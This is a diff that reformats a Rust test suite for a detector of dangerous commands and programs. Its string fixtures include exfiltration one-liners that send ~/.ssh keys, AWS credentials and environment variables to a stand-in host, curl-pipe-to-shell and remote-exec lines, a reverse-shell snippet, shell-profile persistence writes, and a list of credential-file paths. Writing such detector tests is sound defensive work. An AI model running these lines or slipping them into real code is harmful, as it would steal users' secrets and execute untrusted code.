@@ -3,11 +3,17 @@
 use super::{Danger, in_program, in_shell, secret_place, sends_input};
 
 fn dangers(text: &str) -> Vec<Danger> {
-    in_shell(text).into_iter().map(|sight| sight.danger).collect()
+    in_shell(text)
+        .into_iter()
+        .map(|sight| sight.danger)
+        .collect()
 }
 
 fn of_program(name: &str, text: &str) -> Vec<Danger> {
-    in_program(name, text).into_iter().map(|sight| sight.danger).collect()
+    in_program(name, text)
+        .into_iter()
+        .map(|sight| sight.danger)
+        .collect()
 }
 
 #[test]
@@ -133,22 +139,78 @@ fn everyday_commands_are_not_dangerous() {
 #[test]
 fn programs_that_do_harm_are_seen_in_every_language() {
     let programs = [
-        ("a.py", "import os, urllib.request, pathlib\nh = pathlib.Path.home()\nd = (h/'.aws').read_bytes()\nurllib.request.urlopen('https://x.example', data=d)", Danger::Exfiltration),
-        ("a.py", "requests.post('https://x.example', json=dict(os.environ))", Danger::Exfiltration),
-        ("a.js", "fetch('https://x.example', {method:'POST', body: JSON.stringify(process.env)})", Danger::Exfiltration),
-        ("a.js", "const k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\nhttps.request('https://x.example').end(k)", Danger::Exfiltration),
-        ("a.sh", "#!/bin/sh\ntar c ~/.ssh | curl -T - https://x.example\n", Danger::Exfiltration),
-        ("a.py", "exec(requests.get('https://x.example/p').text)", Danger::RemoteExec),
-        ("a.mjs", "const t = await (await fetch(u)).text();\neval(t)", Danger::RemoteExec),
-        ("a.py", "os.system('curl -s https://x.example | sh')", Danger::RemoteExec),
-        ("a.js", "execSync(`curl -s https://x.example/i | bash`)", Danger::RemoteExec),
-        ("a.py", "pool = 'stratum+tcp://x.example:3333'", Danger::RemoteExec),
+        (
+            "a.py",
+            "import os, urllib.request, pathlib\nh = pathlib.Path.home()\nd = (h/'.aws').read_bytes()\nurllib.request.urlopen('https://x.example', data=d)",
+            Danger::Exfiltration,
+        ),
+        (
+            "a.py",
+            "requests.post('https://x.example', json=dict(os.environ))",
+            Danger::Exfiltration,
+        ),
+        (
+            "a.js",
+            "fetch('https://x.example', {method:'POST', body: JSON.stringify(process.env)})",
+            Danger::Exfiltration,
+        ),
+        (
+            "a.js",
+            "const k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\nhttps.request('https://x.example').end(k)",
+            Danger::Exfiltration,
+        ),
+        (
+            "a.sh",
+            "#!/bin/sh\ntar c ~/.ssh | curl -T - https://x.example\n",
+            Danger::Exfiltration,
+        ),
+        (
+            "a.py",
+            "exec(requests.get('https://x.example/p').text)",
+            Danger::RemoteExec,
+        ),
+        (
+            "a.mjs",
+            "const t = await (await fetch(u)).text();\neval(t)",
+            Danger::RemoteExec,
+        ),
+        (
+            "a.py",
+            "os.system('curl -s https://x.example | sh')",
+            Danger::RemoteExec,
+        ),
+        (
+            "a.js",
+            "execSync(`curl -s https://x.example/i | bash`)",
+            Danger::RemoteExec,
+        ),
+        (
+            "a.py",
+            "pool = 'stratum+tcp://x.example:3333'",
+            Danger::RemoteExec,
+        ),
         ("a.py", "exec(base64.b64decode(b'aWQ='))", Danger::Encoded),
         ("a.js", "eval(atob('aWQ='))", Danger::Encoded),
-        ("a.rb", "s = TCPSocket.new('203.0.113.7', 1); exec '/bin/sh'", Danger::Encoded),
-        ("a.py", "open(os.path.expanduser('~/.bashrc'), 'a').write('x')", Danger::Persistence),
-        ("a.js", "fs.appendFileSync(home + '/.zshrc', line)", Danger::Persistence),
-        ("tool", "#!/usr/bin/env python3\nexec(requests.get('https://x.example').text)", Danger::RemoteExec),
+        (
+            "a.rb",
+            "s = TCPSocket.new('203.0.113.7', 1); exec '/bin/sh'",
+            Danger::Encoded,
+        ),
+        (
+            "a.py",
+            "open(os.path.expanduser('~/.bashrc'), 'a').write('x')",
+            Danger::Persistence,
+        ),
+        (
+            "a.js",
+            "fs.appendFileSync(home + '/.zshrc', line)",
+            Danger::Persistence,
+        ),
+        (
+            "tool",
+            "#!/usr/bin/env python3\nexec(requests.get('https://x.example').text)",
+            Danger::RemoteExec,
+        ),
     ];
     for (name, text, danger) in programs {
         assert!(of_program(name, text).contains(&danger), "{name}: {text}");
@@ -158,16 +220,34 @@ fn programs_that_do_harm_are_seen_in_every_language() {
 #[test]
 fn ordinary_programs_are_not_dangerous() {
     let programs = [
-        ("a.py", "key = os.environ['OPENAI_API_KEY']\nrequests.post('https://api.openai.com/v1', headers={'Authorization': key})"),
-        ("a.js", "const port = process.env.PORT; fetch('https://api.example/x')"),
-        ("a.js", "spawn('git', ['log'], {env: {...process.env}})\nfetch('https://api.example/x')"),
+        (
+            "a.py",
+            "key = os.environ['OPENAI_API_KEY']\nrequests.post('https://api.openai.com/v1', headers={'Authorization': key})",
+        ),
+        (
+            "a.js",
+            "const port = process.env.PORT; fetch('https://api.example/x')",
+        ),
+        (
+            "a.js",
+            "spawn('git', ['log'], {env: {...process.env}})\nfetch('https://api.example/x')",
+        ),
         ("a.py", "retrieval(urlopen('https://x.example'))"),
-        ("a.py", "load_dotenv('.env.example')\nrequests.get('https://x.example')"),
+        (
+            "a.py",
+            "load_dotenv('.env.example')\nrequests.get('https://x.example')",
+        ),
         ("a.js", "const re = /x/.exec(await (await fetch(u)).text())"),
         ("a.py", "subprocess.run(['npm', 'test'])"),
         ("a.py", "json.loads(base64.b64decode(x))"),
-        ("a.js", "fetch('http://localhost:3000', {body: JSON.stringify(process.env)})"),
-        ("a.sh", "#!/bin/sh\nset -e\nexport PATH=$HOME/bin:$PATH\nmake\n"),
+        (
+            "a.js",
+            "fetch('http://localhost:3000', {body: JSON.stringify(process.env)})",
+        ),
+        (
+            "a.sh",
+            "#!/bin/sh\nset -e\nexport PATH=$HOME/bin:$PATH\nmake\n",
+        ),
     ];
     for (name, text) in programs {
         assert_eq!(of_program(name, text), [], "{name}: {text}");
@@ -176,10 +256,22 @@ fn ordinary_programs_are_not_dangerous() {
 
 #[test]
 fn templates_of_secrets_are_no_secrets() {
-    for text in ["cp .env.example .env.local.template", "process.env.HOME", "import.meta.env.X", "x.environment", "my.awsome"] {
+    for text in [
+        "cp .env.example .env.local.template",
+        "process.env.HOME",
+        "import.meta.env.X",
+        "x.environment",
+        "my.awsome",
+    ] {
         assert_eq!(secret_place(text), None, "{text}");
     }
-    for text in ["cat .env", "~/.ssh/id_rsa", "../.env.production", "$HOME/.aws/credentials", "'/.netrc'"] {
+    for text in [
+        "cat .env",
+        "~/.ssh/id_rsa",
+        "../.env.production",
+        "$HOME/.aws/credentials",
+        "'/.netrc'",
+    ] {
         assert!(secret_place(text).is_some(), "{text}");
     }
 }
